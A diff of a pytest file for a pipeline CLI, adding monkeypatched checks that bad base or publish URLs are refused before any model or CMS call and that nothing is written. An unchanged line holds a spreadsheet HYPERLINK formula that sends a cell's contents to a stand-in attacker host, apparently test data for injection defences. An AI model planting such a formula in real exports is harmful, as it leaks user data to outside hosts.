@@ -22,6 +22,8 @@ from cms_server import CMS
 from conftest import REPO, make_workspace, run_dirs
 from openai_server import ScriptedOpenAI, fill
 from pipeline.cli import main
+from pipeline.model import chat
+from pipeline.review import publish
 from test_run import FI, good
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -416,19 +418,25 @@ URL_CASES = ([("publish", "--to", k) for k in BAD_URLS] + [("run", "--base-url",
 
 
 @pytest.mark.parametrize("command, flag, bad", URL_CASES, ids=[f"{c}{f}:{b}" for c, f, b in URL_CASES])
-def test_a_bad_url_is_refused_up_front_naming_the_flag(ws, command, flag, bad):
+def test_a_bad_url_is_refused_up_front_naming_the_flag(ws, command, flag, bad, monkeypatch):
     url, built = BAD_URLS[bad], ws
+
+    def no_call(*_args, **_kwargs):  # refused up front: no model or CMS call is even tried
+        raise AssertionError(f"{command} tried a call to a refused URL")
+
+    monkeypatch.setattr(chat.retry, "retrying", no_call)
+    monkeypatch.setattr(publish, "retrying", no_call)
     args = {"publish": ["publish", "-w", str(built), "--to", url],
             "run": ["run", "-w", str(built), "--base-url", url, "--model", "m"],
             "plan": ["plan", "-w", str(built), "--estimate", "--base-url", url, "--model", "m"],
             "check": ["check", "-", "--step", "3", "--judge-model", "j", "--base-url", url, "-w", str(built)]}[command]
-    before = sorted((built / "outputs").rglob("*")) if (built / "outputs").exists() else []
+    outputs = built / "outputs"
+    before = (outputs.exists(), sorted(outputs.rglob("*")) if outputs.exists() else [])
     result = CliRunner().invoke(main, args, catch_exceptions=False, env=CLEAN_ENV, input="text")
     assert result.exit_code == 2, result.output + result.stderr
     assert f"{flag}: not" in result.stderr and "Traceback" not in result.output + result.stderr
-    assert "retry" not in result.stderr.lower()  # refused, not retried
-    after = sorted((built / "outputs").rglob("*")) if (built / "outputs").exists() else []
-    assert after == before  # up front: nothing written, not even a run folder or the store
+    after = (outputs.exists(), sorted(outputs.rglob("*")) if outputs.exists() else [])
+    assert after == before  # up front: nothing written, not even outputs/, a run folder or the store
 
 
 BAD_RESUMES = {
